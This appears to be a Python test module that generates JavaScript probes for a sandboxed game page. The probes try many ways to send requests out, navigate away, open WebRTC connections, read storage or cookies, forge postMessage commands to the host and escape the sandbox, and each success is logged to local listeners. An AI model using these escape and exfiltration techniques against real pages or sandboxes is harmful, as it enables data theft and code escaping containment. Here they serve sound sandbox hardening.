"""Attacks of a script of a compiled page on the network, the document and the stored values.

Each is a script by its name. `HTTP`, `STUN` and `TURN` are addresses of listeners, `root` is the
global object, `add(tag, properties, text)` inserts an element, `found(text)` reports a success.
"""

#: defines the names above, and runs the attacks that the fragment of the address selects
PRELUDE = """
(function () {
var root = (function () { return this })()
var HTTP = 'http://127.0.0.1:%(tcp)d/', STUN = 'stun:127.0.0.1:%(udp)d'
var TURN = 'turn:127.0.0.1:%(tcp)d?transport=tcp'
var document = root && root.document, location = root && root.location
function found(text) { root.console.log('FOUND ' + text) }
function add(tag, properties, text) {
  var element = document.createElement(tag)
  for (var name in properties) element[name] = properties[name]
  if (text) element.textContent = text
  document.body.appendChild(element)
  return element
}
function insert(markup) { document.body.insertAdjacentHTML('beforeend', markup) }
function connect(scope) {
  var Peer = scope.RTCPeerConnection || scope.webkitRTCPeerConnection
  var turn = { urls: TURN, username: 'a', credential: 'b' }
  var peer = new Peer({ iceServers: [{ urls: STUN }, turn] })
  peer.createDataChannel('x')
  peer.createOffer().then(function (offer) { peer.setLocalDescription(offer) })
}
function worker(text) { new root.Worker(root.URL.createObjectURL(new root.Blob([text]))) }
var ATTACKS = {%(attacks)s}
var LEAVING = {%(leaving)s}
var WORKER_ATTACKS = {%(worker_attacks)s}
function run(attacks, names) {
  names.forEach(function (name) {
    try {
      var answer = attacks[name]()
      if (answer && answer.then) answer.then(null, function () {})
    } catch (error) {}
  })
}
if (!root || typeof root.setTimeout !== 'function') return
if (!document) return run(WORKER_ATTACKS, Object.keys(WORKER_ATTACKS))
var data = document.getElementById('zrf-frame')
root.setTimeout(function () {
  data = document.getElementById('zrf-frame')
  var address = data ? JSON.parse(data.textContent).address : location.href
  var name = decodeURIComponent(address.split('#')[1] || '')
  var attacks = name === 'leaving' || name in LEAVING ? LEAVING : ATTACKS
  run(attacks, name in attacks ? [name] : Object.keys(attacks))
  root.console.log('the page ran')
}, 300)
})()
"""

_LINK = "add('link', { rel: '%s', href: HTTP + '%s' })"

#: attacks that navigate the frame: the policy refuses it, but the game is gone
LEAVING = {
    "href": "location.href = HTTP + 'href'",
    "assign": "location.assign(HTTP + 'assign')",
    "replace": "location.replace(HTTP + 'replace')",
    "navigation": "root.navigation.navigate(HTTP + 'navigation')",
    "own window.open": "root.open(HTTP + 'self.open', '_self')",
    "meta refresh": "var meta = document.createElement('meta'); meta.httpEquiv = 'refresh';"
    " meta.content = '0;url=' + HTTP + 'meta'; document.head.appendChild(meta)",
    "link": "add('a', { href: HTTP + 'link' }).click()",
    "download": "add('a', { href: HTTP + 'download', download: 'x' }).click()",
    "ping": "add('a', { href: '#', ping: HTTP + 'ping' }).click()",
}

#: attacks that open other windows, or navigate those around the frame
NAVIGATIONS = {
    "top.open": "root.top.open(HTTP + 'top.open')",
    "window.open": "root.open(HTTP + 'window.open')",
    "noopener": "root.open(HTTP + 'noopener', '_blank', 'noopener')",
    "top.location": "root.top.location = HTTP + 'top.location'",
    "parent.location": "root.parent.location.href = HTTP + 'parent.location'",
    "form": "add('form', { action: HTTP + 'form' }).submit()",
    "form of the top": "add('form', { action: HTTP + 'form', target: '_top' }).submit()",
    "link of the top": "add('a', { href: HTTP + 'link', target: '_top' }).click()",
    "link to a window": "add('a', { href: HTTP + 'link', target: '_blank' }).click()",
}

#: attacks by WebRTC
CONNECTIONS = {
    "WebRTC": "connect(root)",
    "WebRTC of the page around": "connect(root.parent)",
    "WebRTC of a frame": "connect(add('iframe', {}).contentWindow)",
    "WebRTC of a frame in markup": "insert('<iframe></iframe>'); connect(root[0])",
    "WebRTC of an object": "connect(add('object', { data: 'about:blank' }).contentWindow)",
    "WebRTC of a window": "connect(root.open('about:blank'))",
    "WebRTC of a document": "connect(document.implementation.createHTMLDocument('').defaultView)",
    "the module again": "add('iframe', { srcdoc: '<script>' +"
    " document.getElementById('zrf-module').textContent + '</' + 'script>' })",
}

#: requests from the page
REQUESTS = {
    "fetch": "return root.fetch(HTTP + 'fetch')",
    "fetch after the end": "return root.fetch(HTTP, { mode: 'no-cors', keepalive: true })",
    "fetch later": "root.fetchLater(HTTP + 'later', { activateAfter: 0 })",
    "XMLHttpRequest": "var r = new root.XMLHttpRequest(); r.open('GET', HTTP + 'xhr'); r.send()",
    "WebSocket": "new root.WebSocket(HTTP.replace('http', 'ws') + 'socket')",
    "EventSource": "new root.EventSource(HTTP + 'events')",
    "WebTransport": "new root.WebTransport(HTTP.replace('http', 'https'))",
    "beacon": "root.navigator.sendBeacon(HTTP + 'beacon', 'x')",
    "image": "new root.Image().src = HTTP + 'image'",
    "image in a set": "add('img', { srcset: HTTP + 'set 1x' })",
    "attribution": "add('img', {}).setAttribute('attributionsrc', HTTP + 'attribution')",
    "SVG image": "var i = document.createElementNS('http://www.w3.org/2000/svg', 'image');"
    " i.setAttribute('href', HTTP + 'svg'); var s = document.createElementNS("
    "'http://www.w3.org/2000/svg', 'svg'); s.appendChild(i); document.body.appendChild(s)",
    "style": "add('div', {}).style.backgroundImage = 'url(' + HTTP + 'background)'",
    "style element": "add('style', {}, '@import url(' + HTTP + 'import)')",
    "style sheet": "var s = new root.CSSStyleSheet();"
    " s.replaceSync('body { background: url(' + HTTP + 'sheet) }');"
    " document.adoptedStyleSheets = [s]",
    "font": "return new root.FontFace('x', 'url(' + HTTP + 'font)').load()",
    "sound": "new root.Audio(HTTP + 'sound').load()",
    "video": "add('video', { poster: HTTP + 'poster', src: HTTP + 'video' })",
    "script": "add('script', { src: HTTP + 'script' })",
    "inline script": "add('script', {}, 'new Image().src = \"' + HTTP + 'inline\"')",
    "speculation rules": "add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch:"
    " [{ source: 'list', urls: [HTTP + 'speculation'] }] }))",
    "import": "return root.eval('import(\"' + HTTP + 'import\")')",
    "code": "root.eval('1'); found('eval')",
    "function": "found((function () {}).constructor('return 1')())",
    "timer": "root.setTimeout('new Image().src = \"' + HTTP + 'timer\"')",
    "worklet": "return new root.AudioContext().audioWorklet.addModule(HTTP + 'worklet')",
    "service worker": "return root.navigator.serviceWorker.register('/worker.js')"
    ".then(function () { found('service worker') })",
    "shared worker": "new root.SharedWorker(HTTP + 'shared')",
    "worker": "new root.Worker(HTTP + 'worker')",
    "worker of data": "new root.Worker('data:text/javascript,fetch(\"' + HTTP + 'data\")')",
    "worker with a script": "worker('importScripts(\"' + HTTP + 'imported\")')",
    "worker with fetch": "worker('fetch(\"' + HTTP + 'fetched\")')",
    "worker with a socket": "worker('new WebSocket(\"' + HTTP.replace('http', 'ws') + 'socket\")')",
    "frame": "add('iframe', { src: HTTP + 'frame' })",
    "frame of data": "add('iframe', { src: 'data:text/html,<img src=' + HTTP + 'data>' })",
    "frame with markup": "add('iframe', { srcdoc: '<img src=' + HTTP + 'srcdoc>' })",
    "frame that navigates": "add('iframe', {}).contentWindow.location = HTTP + 'inner'",
    "object": "add('object', { data: HTTP + 'object' })",
    "plug-in": "add('embed', { src: HTTP + 'embed' })",
    "JavaScript address": "location.href = 'javascript:new Image().src = \"' + HTTP + '\"'",
    "base": "add('base', { href: HTTP }); new root.Image().src = 'relative'",
    "report": "var meta = document.createElement('meta');"
    " meta.httpEquiv = 'Content-Security-Policy'; meta.content = 'img-src data:;"
    " report-uri ' + HTTP; document.head.appendChild(meta)",
}  # fmt: skip

#: links and markup: Chrome opens connections for them, but the headless shell does not, so that the
#: test counts the elements
ELEMENTS = {
    **{
        name: _LINK % (name, name.replace(" ", "-"))
        for name in (
            *("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender"),
            *("stylesheet", "icon", "manifest"),
        )
    },
    "link in a namespace": "document.head.appendChild(document.createElementNS("
    "'http://www.w3.org/1999/xhtml', 'x:link'))",
    "link in a document": "document.head.appendChild(document.implementation.createDocument("
    "'http://www.w3.org/1999/xhtml', 'link', null).documentElement)",
    "link of a class": "var L = class extends root.HTMLLinkElement {};"
    " root.customElements.define('x-link', L, { extends: 'link' });"
    " document.head.appendChild(new L())",
    "link by a name that changes": "var n = 0; document.head.appendChild(document.createElement("
    "{ toString: function () { return n++ ? 'div' : 'link' } }))",
    "link by changed prototypes": "root.Reflect.apply = root.Object.create = function () {};"
    " root.Object.defineProperty(root.Element.prototype, 'localName', { value: 'div' });"
    " document.head.appendChild(document.createElement('link'))",
    "markup": "insert('<link rel=preconnect>')",
    "markup in an element": "add('div', {}).innerHTML = '<link rel=preconnect>'",
    "markup in a document": "document.write('<link rel=preconnect>')",
    "markup in a range": "document.body.appendChild(document.createRange()"
    ".createContextualFragment('<link rel=preconnect>'))",
    "parsed markup": "document.body.appendChild(new root.DOMParser().parseFromString("
    "'<link rel=preconnect>', 'text/html').querySelector('link'))",
    "sanitized markup": "add('div', {}).setHTML('<link rel=preconnect>',"
    " { sanitizer: { elements: ['link'] } })",
    "unsafe markup": "add('div', {}).setHTMLUnsafe('<link rel=preconnect>')",
    "shadow markup": "add('div', {}).attachShadow({ mode: 'open' }).innerHTML = '<link>';"
    " insert('<link>')",
    "edited markup": "var e = add('div', { contentEditable: true }); e.focus();"
    " document.execCommand('insertHTML', false, 'a<link rel=preconnect>')",
    "policy": "root.trustedTypes.createPolicy('other', {}); found('policy')",
    "second policy": "root.trustedTypes.createPolicy('default',"
    " { createHTML: function (x) { return x } }); found('second policy')",
}  # fmt: skip

#: attacks on other documents and on what other pages have stored
DATA = {
    "stored values": "if (JSON.stringify(root.localStorage).indexOf('secret') >= 0)"
    " found('storage')",
    "data of the document": "if (data && data.textContent.indexOf('secret') >= 0) found('data')",
    "session": "root.sessionStorage.setItem('a', 'b'); found('session storage')",
    "database": "root.indexedDB.open('a').onsuccess = function () { found('database') }",
    "caches": "return root.caches.open('a').then(function () { found('caches') })",
    "cookie": "document.cookie = 'a=b'; if (document.cookie) found('cookie')",
    "origin": "if (root.origin !== 'null') found('origin')",
    "document around": "if (root.parent !== root && root.parent.document) found('document')",
    "document at the top": "if (root.top !== root && root.top.document.body) found('top')",
    "frame element": "if (root.frameElement) found('element')",
    "opener": "if (root.opener) found('opener')",
    "file system": "return root.navigator.storage.getDirectory()"
    ".then(function () { found('files') })",
    "locks": "return root.navigator.locks.request('a', function () { found('locks') })",
    "channel": "new root.BroadcastChannel('test').postMessage('FOUND channel')",
    "forged value": "root.parent.postMessage({ frame: 'store', name: 'zrf2js:settings',"
    " value: '{\"theme\":\"forged\"}' }, '*')",
    "forged names": "['../', '', '__proto__', 'zrf2js-frame:x'].forEach(function (name) {"
    " root.parent.postMessage({ frame: 'store', name: name, value: 'forged' }, '*') })",
    "forged values": "[null, 1, {}, [], true].forEach(function (value) { root.parent.postMessage("
    "{ frame: 'store', name: value, value: value }, '*'); root.parent.postMessage(value, '*') })",
    "large value": "root.parent.postMessage({ frame: 'store', name: 'large',"
    " value: new Array(3e6).join('x') }, '*')",
    "forged file": "root.parent.postMessage({ frame: 'save', name: 'x.exe', text: 'x' }, '*')",
    "forged tasks": "['home', 'connect', 'reload', 'constructor', 'toString', '__proto__'].forEach("
    "function (task) { root.parent.postMessage({ frame: task, home: HTTP + 'home' }, '*') })",
    "forged command": "root.parent.postMessage({ zrf2js: 'move', move: 'x' }, '*')",
    "forged title": "root.parent.postMessage({ frame: 'title', title: {} }, '*')",
}  # fmt: skip

ATTACKS = {**CONNECTIONS, **REQUESTS, **ELEMENTS, **DATA, **NAVIGATIONS}

#: attacks of the module in the workers that search for moves
WORKER_ATTACKS = {
    "fetch": "return root.fetch(HTTP + 'worker')",
    "XMLHttpRequest": REQUESTS["XMLHttpRequest"],
    "WebSocket": REQUESTS["WebSocket"],
    "EventSource": REQUESTS["EventSource"],
    "WebTransport": REQUESTS["WebTransport"],
    "WebRTC": "connect(root)",
    "scripts": "root.importScripts(HTTP + 'imported')",
    "font": "return new root.FontFace('x', 'url(' + HTTP + 'font)').load()",
    "worker": "new root.Worker(HTTP + 'worker')",
    "nested worker": REQUESTS["worker with fetch"],
    "database": "root.indexedDB.open('a').onsuccess = function () { found('database') }",
    "ran": "root.console.log('the worker ran')",
}

#: objects by which scripts have left other sandboxes: each may lead to the functions of a host
ESCAPES = {
    "stack trace": "Error.prepareStackTrace = function (e, s) { return s }; try { null.x }"
    " catch (e) { return e.stack }",
    "function of a stack trace": "Error.prepareStackTrace = function (e, s) {"
    " return s.map(function (c) { return c.getThis() || c.getFunction() }) };"
    " return new Error().stack.filter(Boolean)[0]",
    "stack limit": "Error.stackTraceLimit = Infinity; return new Error().constructor",
    "getter": "return Object.defineProperty({}, 'x', { get: function () { return this } }).x",
    "caller": "return (function f() { return f.caller })()",
    "proxy": "return new Proxy(function () {}, { get: function (t, n) { return t[n] } })",
    "promise": "return Promise.resolve()",
    "async function": "return (async function () {})",
    "iterator": "return [][Symbol.iterator]()",
    "generator": "return (function* () {})()",
    "cause": "return new Error('x', { cause: globalThis }).cause",
    "overflow": "function f() { f() } try { f() } catch (e) { return e }",
    "error of the host": "try { structuredClone(function () {}) } catch (e) { return e }",
    "WebAssembly": "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    "symbol": "return Symbol.prototype",
    "global of functions": "return (function () { return this })()",
    "scope of the worker": "return globalThis",
    "answers": "return postMessage",
    "kernel": "return Dagaz.Model.BuildDesign",
    "library": "return _",
}

#: runs all escapes, and sends a request by each global object that they find
ESCAPE_SCRIPT = """
(function () {
function use(name, scope) {
  var address = '%(address)s' + encodeURIComponent(name)
  ;[function () { scope.fetch(address).catch(function () {}) },
    function () { scope.importScripts(address) },
    function () { new scope.WebSocket(address.replace('http', 'ws')) },
    function () { var r = new scope.XMLHttpRequest(); r.open('GET', address, false); r.send() },
    function () { scope.navigator.sendBeacon(address, '') },
    function () { new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:x.invalid' }] }) },
    function () { new scope.Worker(address) },
    function () { scope.open(address) },
    function () { scope.top.location = address },
    function () { if (scope.parent !== scope && scope.parent.document) scope.fetch(address) },
    function () { scope.process.exit() }, function () { scope.require('fs') }
  ].forEach(function (attempt) { try { attempt() } catch (error) {} })
}
var ESCAPES = {%(escapes)s}
Object.keys(ESCAPES).forEach(function (name) {
  var found
  try { found = ESCAPES[name]() } catch (error) { return }
  use(name, found)
  try { use(name, found.constructor.constructor('return this')()) } catch (error) {}
})
delete Error.prepareStackTrace
})()
"""


def escape_script(address: str) -> str:
    """Return a script with all escapes, whose requests go to an address."""
    return ESCAPE_SCRIPT % {"address": address, "escapes": _functions(ESCAPES)}


def script(tcp: int, udp: int) -> str:
    """Return the script of a page with all attacks, for listeners at these ports."""
    return PRELUDE % {
        "tcp": tcp,
        "udp": udp,
        "attacks": _functions(ATTACKS),
        "leaving": _functions(LEAVING),
        "worker_attacks": _functions(WORKER_ATTACKS),
    }


def _functions(attacks: dict[str, str]) -> str:
    return ",\n".join(f"'{name}': function () {{ {text} }}" for name, text in attacks.items())
